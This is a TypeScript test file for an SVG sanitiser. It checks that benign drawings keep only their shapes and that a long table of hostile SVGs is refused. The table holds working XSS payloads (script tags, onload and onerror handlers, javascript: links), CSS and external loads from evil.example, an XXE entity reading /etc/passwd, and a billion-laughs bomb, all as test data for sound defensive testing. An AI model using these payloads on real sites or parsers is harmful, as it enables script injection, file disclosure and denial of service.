import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanSvg } from './clean-svg.ts';
import { UnsafeDrawing } from './drawing-attributes.ts';

const svg = (inner: string, attributes = 'viewBox="0 0 40 10"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inner}</svg>`;
const PATH = '<path d="M0 0h40v10H0z" fill="#113355"/>';

describe('a drawing of shapes', () => {
  it('is built again with its shapes, colours, gradients and moves, and nothing else', () => {
    const drawn = cleanSvg(
      `<?xml version="1.0" encoding="UTF-8"?><!-- made by hand -->${svg(
        `<title>Our logo</title><metadata><rdf:RDF xmlns:rdf="r"><cc:Work xmlns:cc="c">x</cc:Work></rdf:RDF></metadata>
         <defs><linearGradient id="a"><stop offset="0" stop-color="#fff"/></linearGradient>
         <linearGradient id="b" xlink:href="#a" gradientTransform="rotate(45 1 1)"/></defs>
         <g transform="translate(1,2) scale(.5)" class="x" data-name="y" style="fill:url(#b);stroke:none;-inkscape-x:1">
         <path d="M0,0 L10-5.5e1z" fill-rule="evenodd"/></g>`,
        'viewBox="0 0 40 10" width="400" height="100" version="1.1"',
      )}`,
    );
    expect([drawn.width, drawn.height]).toEqual([40, 10]);
    expect(drawn.svg.replaceAll(/\s*\n\s*/g, '')).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 10" width="40" height="10">' +
        '<defs><linearGradient id="a"><stop offset="0" stop-color="#fff"></stop></linearGradient>' +
        '<linearGradient id="b" href="#a" gradientTransform="rotate(45 1 1)"></linearGradient></defs>' +
        '<g transform="translate(1,2) scale(.5)" fill="url(#b)" stroke="none">' +
        '<path d="M0,0 L10-5.5e1z" fill-rule="evenodd"></path></g></svg>',
    );
  });

  it('has the size of its view box, or of its width and height', () => {
    expect(cleanSvg(svg(PATH, 'width="64px" height="16"')).width).toBe(64);
    for (const none of [
      '',
      'viewBox="0 0 0 10"',
      'viewBox="0 0 1e9 10"',
      'viewBox="a b c d"',
      'width="100%"',
    ])
      expect(() => cleanSvg(svg(PATH, none)), none).toThrow(UnsafeDrawing);
  });
});

const LAUGHS = `<!DOCTYPE svg [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "${`&a${n || ''};`.repeat(10)}">`).join('')}]>`;

/** What drawings have been made to carry into sites that took them in. */
const HOSTILE = {
  'a script': svg('<script>alert(1)</script>'),
  'a script from elsewhere': svg('<script href="https://evil.example/x.js"/>'),
  'a script in another name space': svg('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
  'a script in capitals': svg('<SCRIPT>alert(1)</SCRIPT>'),
  'an event handler': svg(PATH, 'viewBox="0 0 1 1" onload="alert(1)"'),
  'an event handler of a shape': svg('<path d="M0 0" onclick="alert(1)"/>'),
  'an event handler in capitals': svg('<path d="M0 0" ONCLICK="alert(1)"/>'),
  'a foreign object': svg(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x"/></body></foreignObject>',
  ),
  HTML: svg('<img src="x" onerror="alert(1)"/>'),
  'a frame': svg('<iframe src="https://evil.example"/>'),
  'a link': svg(`<a href="javascript:alert(1)">${PATH}</a>`),
  'a picture from elsewhere': svg('<image href="https://evil.example/x.png"/>'),
  'a picture of data': svg('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'),
  'a use from elsewhere': svg('<use href="https://evil.example/x.svg#a"/>'),
  'a use of itself': svg('<g id="a"><use href="#a"/></g>'),
  'a gradient from elsewhere': svg('<linearGradient id="a" xlink:href="https://evil.example/x.svg#b"/>'),
  'a gradient of data': svg('<linearGradient id="a" href="data:image/svg+xml,x#b"/>'),
  'a fill from elsewhere': svg('<path d="M0 0" fill="url(https://evil.example/#a)"/>'),
  'a fill of a script': svg('<path d="M0 0" fill="javascript:alert(1)"/>'),
  'a style that imports': svg('<style>@import url(https://evil.example/x.css);</style>'),
  'a style attribute that loads': svg('<path d="M0 0" style="background:url(https://evil.example)"/>'),
  'a style attribute with escapes': svg('<path d="M0 0" style="fill:\\75 rl(https://evil.example)"/>'),
  'a style attribute with a comment': svg('<path d="M0 0" style="fill:u/**/rl(x)"/>'),
  'a style sheet before it': `<?xml-stylesheet href="https://evil.example/x.css"?>${svg(PATH)}`,
  'an animation': svg('<animate attributeName="href" values="javascript:alert(1)"/>'),
  'a set': svg('<set attributeName="onload" to="alert(1)"/>'),
  'a filter': svg('<filter id="a"><feImage href="https://evil.example/x"/></filter>'),
  'a mask': svg('<mask id="a"/>'),
  text: svg('<text>hi</text>'),
  'a handler element': svg('<handler>alert(1)</handler>'),
  'an embedded document': svg('<embed src="x"/>'),
  'a document type': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">${svg(PATH)}`,
  'an entity from a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<title>&x;</title>')}`,
  'a billion laughs': `${LAUGHS}${svg('<title>&a8;</title>')}`,
  'an entity that is none of XML': svg('<title>&nbsp;</title>'),
  'CDATA that an HTML parser reads otherwise': svg(
    '<title><![CDATA[</title><script>alert(1)</script>]]></title>',
  ),
  'markup that HTML closes otherwise': svg('<desc><p></desc><script>alert(1)</script>'),
  'a title out of which HTML breaks': svg(
    '<title><style><!--</style><img src="x" onerror="alert(1)"/>--></title>',
  ),
  'two roots': `${svg(PATH)}<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
  'HTML before it': `<html><body onload="alert(1)">${svg(PATH)}</body></html>`,
  'no end': '<svg viewBox="0 0 1 1"><path d="M0 0"/>',
  'a null': svg(`<path d="M0 0\u0000"/>`),
  nothing: '',
  'a thousand groups in each other': svg('<g>'.repeat(1000) + '</g>'.repeat(1000)),
  'ten thousand shapes': svg('<path d=""/>'.repeat(10_000)),
  'a file of a megabyte': svg(`<path d="${'M0 0'.repeat(250_000)}"/>`),
} as const;

describe('a hostile drawing', () => {
  it.each(Object.entries(HOSTILE))('with %s is refused', (_, text) => {
    // A file whose unseen parts are dropped may also come out clean; none may carry anything of them.
    const cleaned = (() => {
      try {
        return cleanSvg(text).svg;
      } catch (error) {
        expect(error).toBeInstanceOf(UnsafeDrawing);
        return null;
      }
    })();
    if (cleaned !== null) expect(cleaned).not.toMatch(/alert|script|onerror|evil|img|style/i);
    if (!text.includes('<title>')) expect(cleaned).toBeNull();
  });

  it('that is pieced together of anything comes out as shapes alone, or not at all', () => {
    const names = fc.constantFrom(
      'g',
      'path',
      'a',
      'script',
      'title',
      'style',
      'svg',
      'image',
      'stop',
      'x:y',
    );
    const attributes = fc.constantFrom(
      'd',
      'fill',
      'onload',
      'href',
      'xlink:href',
      'style',
      'id',
      'class',
      'transform',
    );
    const values = fc.oneof(
      fc.string({ maxLength: 20 }),
      fc.constantFrom(
        'url(#a)',
        'url(http://e)',
        'javascript:x',
        'fill:red',
        '#a',
        'M0 0',
        '"><script>',
        "' onload='x",
      ),
    );
    const element = fc.tuple(
      names,
      fc.dictionary(attributes, values, { maxKeys: 3 }),
      fc.string({ maxLength: 9 }),
    );
    const escaped = (value: string) =>
      value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
    fc.assert(
      fc.property(fc.array(element, { maxLength: 6 }), fc.boolean(), (elements, isEscaped) => {
        const write = isEscaped ? escaped : (value: string) => value;
        const inner = elements
          .map(([name, own, text]) => {
            const given = Object.entries(own).map(([key, value]) => ` ${key}="${write(value)}"`);
            return `<${name}${given.join('')}>${write(text)}</${name}>`;
          })
          .join('');
        let drawn = '';
        try {
          drawn = cleanSvg(svg(inner)).svg;
        } catch (error) {
          expect(error).toBeInstanceOf(UnsafeDrawing);
          return;
        }
        expect(drawn).toMatch(
          /^<svg xmlns="[^"<>&]*"(?: [\w-]+="[^"<>&]*")*>(?:<\/?(?:g|path|stop)(?: (?:d|fill|id|transform)="[^"<>&]*")*>)*<\/svg>$/,
        );
        expect(drawn).not.toMatch(/javascript|onload|url\(h/);
      }),
      { numRuns: 2000 },
    );
  });
});
